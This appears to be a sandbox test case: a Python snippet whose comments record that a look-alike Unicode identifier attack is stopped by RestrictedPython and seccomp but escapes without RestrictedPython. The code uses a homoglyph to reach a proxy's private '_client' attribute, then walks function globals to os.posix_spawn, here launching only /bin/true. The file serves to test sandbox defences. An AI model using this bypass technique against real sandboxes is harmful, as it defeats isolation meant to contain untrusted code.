# attack: look-alike unicode identifiers
# stops: restrictedpython: "_client" is an invalid attribute name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# Directory("/")._𝖼lient: a look-alike of a proxy's private attribute
client = Directory("/")._𝖼lient
print("ESCAPED", client.call.__globals__["frames"].os.posix_spawn("/bin/true", ["true"], {}))
